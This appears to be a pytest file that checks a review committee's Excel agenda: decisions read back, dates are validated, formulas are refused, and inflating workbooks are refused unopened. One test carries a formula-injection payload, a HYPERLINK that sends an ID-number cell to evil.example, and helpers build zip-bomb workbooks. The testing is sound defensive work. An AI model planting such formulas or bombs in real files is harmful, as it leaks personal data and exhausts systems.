"""The committee's workbook: what the experts see and what is read back."""

from __future__ import annotations

import os
import tracemalloc
import uuid
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from app.db.models import Decision
from app.errors import NcmsError, ValidationError
from app.printing import xlsx_base
from app.printing.xlsx_base import MAX_FILE_BYTES, MB, put
from app.review.committee import Case, ReviewService
from app.review.sheet import SHEET, read_decisions, write_agenda
from tests.app.printing.helpers import FORMULA_PREFIXES, hostile, live_cells, text_values
from tests.app.sync.helpers import REVIEWER, batched, make_side, trust
from tests.conftest import TODAY


def _case(number: str, code: str = "HTN") -> Case:
    return Case(
        uuid.uuid4(), number, "S001", "new", "王秀英", "410523********0013", 74, code,
        "高血压病（Ⅱ、Ⅲ期）", "B", "汤阴县人民医院", "county", date(2026, 9, 1), "李主任",
        "8/8", 3, True, "county_received",
    )  # fmt: skip


def test_agenda_has_a_drop_down_and_reads_back(tmp_path: Path) -> None:
    out = tmp_path / "agenda.xlsx"
    write_agenda([_case("S001-2026-000001"), _case("S001-2026-000002", "DM")], out, "议程")
    book = load_workbook(out)
    sheet = book["评审议程"]
    assert sheet.freeze_panes == "C3" and sheet.page_setup.orientation == "landscape"
    (choice,) = sheet.data_validations.dataValidation
    assert choice.formula1 == '"通过,不通过,需体检,需补充材料"' and str(choice.sqref) == "R3:R4"
    assert sheet["H3"].value == "410523********0013" and sheet["Q3"].value == "是"
    sheet["R3"], sheet["S3"], sheet["T3"], sheet["U3"] = "不通过", "证据不足", "张医生", "李医生"
    book.save(out)
    (row,) = read_decisions(out)  # the undecided second case is not a decision
    assert (row.row, row.application_number, row.disease_code) == (3, "S001-2026-000001", "HTN")
    assert (row.outcome, row.reasons, row.experts) == (
        "rejected",
        "证据不足",
        ("张医生", "李医生"),
    )


def test_an_examination_reads_its_hospital_and_date(tmp_path: Path) -> None:
    out = tmp_path / "agenda.xlsx"
    write_agenda([_case("S001-2026-000001"), _case("S001-2026-000002", "DM")], out, "议程")
    book = load_workbook(out)
    sheet = book["评审议程"]
    assert (sheet["V2"].value, sheet["W2"].value) == ("体检医院", "体检日期")
    sheet["R3"], sheet["S3"], sheet["T3"], sheet["U3"] = "需体检", "复查血压", "张医生", "李医生"
    sheet["V3"], sheet["W3"] = "汤阴县人民医院", datetime(2026, 12, 20)
    sheet["R4"], sheet["S4"], sheet["T4"], sheet["U4"] = "需体检", "复查", "张医生", "李医生"
    sheet["W4"] = "下周"
    book.save(out)
    with pytest.raises(ValidationError) as refused:
        read_decisions(out)
    assert [(p.field, p.key) for p in refused.value.problems] == [("评审议程!W4", "sheet.bad_date")]
    sheet["W4"] = "2026-12-21"
    book.save(out)
    first, second = read_decisions(out)
    assert (first.exam_hospital, first.exam_by) == ("汤阴县人民医院", date(2026, 12, 20))
    assert (second.exam_hospital, second.exam_by) == ("", date(2026, 12, 21))


def test_an_agenda_written_before_the_examination_columns_is_still_read(tmp_path: Path) -> None:
    out = tmp_path / "agenda.xlsx"
    write_agenda([_case("S001-2026-000001")], out, "议程")
    book = load_workbook(out)
    sheet = book["评审议程"]
    sheet.delete_cols(22, 2)  # what an older release wrote
    sheet["R3"], sheet["T3"], sheet["U3"] = "通过", "张医生", "李医生"
    book.save(out)
    (row,) = read_decisions(out)
    assert (row.outcome, row.exam_hospital, row.exam_by) == ("approved", "", None)


def test_a_workbook_that_is_not_an_agenda_is_refused(tmp_path: Path) -> None:
    other = tmp_path / "other.xlsx"
    Workbook().save(other)
    with pytest.raises(NcmsError, match="not a review agenda"):
        read_decisions(other)
    (tmp_path / "text.xlsx").write_text("hello")
    with pytest.raises(NcmsError, match="not a review agenda"):
        read_decisions(tmp_path / "text.xlsx")


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=repr)
def test_agenda_text_from_a_package_is_never_a_formula(tmp_path: Path, prefix: str) -> None:
    # A station's package decides every text of a case: person, doctor, hospital...
    text = f'{prefix}HYPERLINK("http://evil.example/?"&H3,"-王")'
    shown = text.replace("\r", "\n")  # how any XML reader reads a CR back
    out = tmp_path / "agenda.xlsx"
    write_agenda([hostile(_case("S001-2026-000001"), text)], out, text)
    assert live_cells(out) == []
    assert shown in text_values(out)  # and the clerk reads it as it came


def _filled(tmp_path: Path, cases: int = 2) -> tuple[Path, Workbook]:
    """An agenda with every case decided, open for the test to change a cell."""
    out = tmp_path / "agenda.xlsx"
    write_agenda([_case(f"S001-2026-00000{n}") for n in range(1, cases + 1)], out, "议程")
    book = load_workbook(out)
    sheet = book[SHEET]
    for row in range(3, 3 + cases):
        sheet[f"R{row}"], sheet[f"S{row}"] = "不通过", "证据不足"
        sheet[f"T{row}"], sheet[f"U{row}"] = "张医生", "李医生"
    return out, book


def _refusals(path: Path) -> list[str]:
    with pytest.raises(ValidationError) as refused:
        read_decisions(path)
    return [f"{p.field}: {p.message}" for p in refused.value.problems]


# Every cell read of a case row: its key (B, C) and the committee's four (R to U).
@pytest.mark.parametrize("column", ["B", "C", "R", "S", "T", "U"])
def test_a_formula_in_any_cell_read_is_refused_with_the_cell_named(
    tmp_path: Path, column: str
) -> None:
    out, book = _filled(tmp_path)
    book[SHEET][f"{column}4"] = "=1+1"  # openpyxl stores it as a formula, as Excel would
    book.save(out)
    assert _refusals(out) == [
        f"{SHEET}!{column}4: A formula is not accepted here: type the value itself"
    ]


def test_a_formula_in_the_header_is_refused(tmp_path: Path) -> None:
    out, book = _filled(tmp_path)
    book[SHEET]["R2"] = '="结"&"论"'
    book.save(out)
    assert _refusals(out) == [f"{SHEET}!R2: A formula is not accepted here: type the value itself"]


@pytest.mark.parametrize(
    "expert", [123, 4.5, "007", " 12.5 ", "-3", datetime(2026, 9, 1)], ids=repr
)
def test_an_expert_name_that_is_a_number_is_refused(tmp_path: Path, expert: object) -> None:
    out, book = _filled(tmp_path)
    book[SHEET]["U3"] = expert
    book.save(out)
    (refusal,) = _refusals(out)
    assert refusal.startswith(f"{SHEET}!U3: An expert's name is needed here, not the number")


def test_formula_like_text_typed_as_text_is_read_as_text(tmp_path: Path) -> None:
    out, book = _filled(tmp_path, cases=1)
    cell = book[SHEET]["S3"]
    put(cell, "-诊断依据不足")  # typed with a leading quote: text, not a formula
    book.save(out)
    (row,) = read_decisions(out)
    assert row.reasons == "-诊断依据不足"


def test_a_refused_sheet_records_none_of_its_rows(tmp_path: Path) -> None:
    station = make_side(tmp_path / "station", "station", "S001")
    county = make_side(tmp_path / "county", "county", "C4105")
    try:
        trust(station, county)
        batched(station.db, 2)
        county.import_(station.export(tmp_path / "up.ncmspkg"))
        review = ReviewService(county.db, today=lambda: TODAY)
        out = tmp_path / "agenda.xlsx"
        write_agenda(review.agenda(), out, "议程")
        book = load_workbook(out)
        sheet = book[SHEET]
        for row in (3, 4):
            sheet[f"R{row}"], sheet[f"T{row}"], sheet[f"U{row}"] = "通过", "张医生", "李医生"
        sheet["R4"] = '=IF(1,"通过")'  # the second case decided by a formula
        book.save(out)
        with pytest.raises(ValidationError):
            review.record(REVIEWER, read_decisions(out), county.keys.signing)
        with county.db.reader() as session:
            assert session.scalars(select(Decision)).all() == []
        assert len(review.agenda()) == 2  # both cases still wait for the committee
    finally:
        station.db.close()
        county.db.close()


def _repacked(agenda: Path, out: Path, extra: Callable[[zipfile.ZipFile], None]) -> Path:
    """The agenda's own parts and whatever `extra` adds, as one workbook file."""
    with (
        zipfile.ZipFile(agenda) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            target.writestr(entry, source.read(entry))
        extra(target)
    return out


def _whitespace(target: zipfile.ZipFile) -> None:
    # 60 MB of spaces pack to about 60 KB: under the total, far past any ratio.
    with target.open("xl/media/padding.xml", "w", force_zip64=True) as part:
        for _ in range(60):
            part.write(b" " * MB)


def _many_parts(target: zipfile.ZipFile) -> None:
    # Each part packs only about 40 times, but together they unpack past the bound.
    chunk = b"".join(os.urandom(4).hex().encode() + b" " * 400 for _ in range(2600))
    for n in range(4):
        with target.open(f"xl/media/part{n}.xml", "w", force_zip64=True) as part:
            for _ in range(30):
                part.write(chunk)


def _big_file(agenda: Path, out: Path) -> Path:
    with out.open("wb") as handle:
        handle.write(agenda.read_bytes())
        handle.truncate(MAX_FILE_BYTES + 1)  # sparse: no disk used
    return out


@pytest.mark.parametrize(
    ("build", "refusal"),
    [
        (lambda a, o: _repacked(a, o, _whitespace), "padding.xml unpacks to"),
        (lambda a, o: _repacked(a, o, _many_parts), "it unpacks to"),
        (_big_file, "it is larger than 20 MB"),
    ],
    ids=["packed tight", "unpacks too large", "file too large"],
)
def test_a_workbook_that_inflates_is_refused_before_it_is_opened(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    build: Callable[[Path, Path], Path],
    refusal: str,
) -> None:
    agenda, book = _filled(tmp_path)
    book.save(agenda)
    bomb = build(agenda, tmp_path / "bomb.xlsx")
    assert bomb.stat().st_size < MAX_FILE_BYTES or "larger" in refusal
    opened: list[Path] = []
    monkeypatch.setattr(xlsx_base, "load_workbook", lambda path, **_: opened.append(path))
    tracemalloc.start()
    try:
        with pytest.raises(NcmsError) as refused:
            read_decisions(bomb)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert str(refused.value).startswith("bomb.xlsx is refused unopened")
    assert refusal in str(refused.value)
    assert opened == [] and peak < 5 * MB
